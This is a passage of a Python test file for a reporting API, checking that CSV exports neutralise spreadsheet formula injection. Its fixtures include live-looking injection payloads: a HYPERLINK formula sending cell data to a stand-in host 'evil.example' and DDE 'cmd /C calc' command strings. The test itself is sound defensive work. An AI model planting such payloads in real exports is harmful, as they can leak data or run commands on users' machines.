        (datetime(2031, 1, 1, tzinfo=timezone(timedelta(hours=1))), add_months(jan, 1), "start"),
    ):
        reply = await world.api.get(
            path, key=world.admin, params={"start": start, "end": end, "publishable": True}
        )
        assert reply.status == 400, (start, end, reply.body)
        assert reply.problem_type == "validation-error"
        assert field_name in reply.field_names(), reply.body
        # The same window unpublished is fine.
        reply = await world.api.get(path, key=world.admin, params={"start": start, "end": end})
        assert reply.status == 200, reply.body


# --- CSV formula injection (issue 14 item 7) ---------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def test_no_csv_cell_starts_a_spreadsheet_formula(
    world: World, db: Pool, clock: ManualClock
) -> None:
    """Sites named, and in areas named, as a spreadsheet would run them: `=`, `+`, `-` and `@`
    through the API; a leading tab or carriage return the API refuses, so those two are
    written straight into the database (as an older row or a hand fix could be)."""
    areas = {
        "=": f'=HYPERLINK("http://evil.example/"&A1,"{unique("x")}")',
        "+": f"+1+cmd|' /C calc'!{unique('A')}",
        "-": f"-2+3+cmd|' /C calc'!{unique('A')}",
        "@": f"@SUM(1+1)*cmd|' /C calc'!{unique('A')}",
        "\t": f"\t=1+1 {unique('tab')}",
        "\r": f"\r=1+1 {unique('cr')}",
    }
    for lead, area in areas.items():
        if lead in "\t\r":
            refused = await world.api.post(
                "/v1/sites", site_body(area=area, name=area), key=world.provider
            )
            assert refused.status == 400 and "area" in refused.field_names(), refused.body
            site = await world.site(area=unique("Leeds"))
            async with db.acquire() as conn:
                await conn.execute("UPDATE site SET area = $1 WHERE id = $2", area, site["id"])
        else:
            site = await world.site(area=area, name=area)
        await world.bed(site["id"])
    clock.advance(hours=1)
    start = datetime(clock.now().year, clock.now().month, 1, tzinfo=UTC)
    window = {"start": start, "end": add_months(start, 1), "provider": world.provider_id}
    for group_by in ("area", "provider"):
        for publishable in (False, True):
            reply = await world.api.get(
                "/v1/reports/summary",
                key=world.admin,
                params={**window, "group_by": group_by, "publishable": publishable},
                headers={"Accept": "text/csv"},
            )
            assert reply.status == 200, reply.body
            rows = list(csv.reader(io.StringIO(reply.raw.decode("utf-8"), newline="")))
            cells = [cell for row in rows for cell in row]
            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], (group_by, cells)
            if group_by == "area":
                keys = {row[0] for row in rows[1:]}
                assert {f"'{area}" for area in areas.values()} <= keys, keys
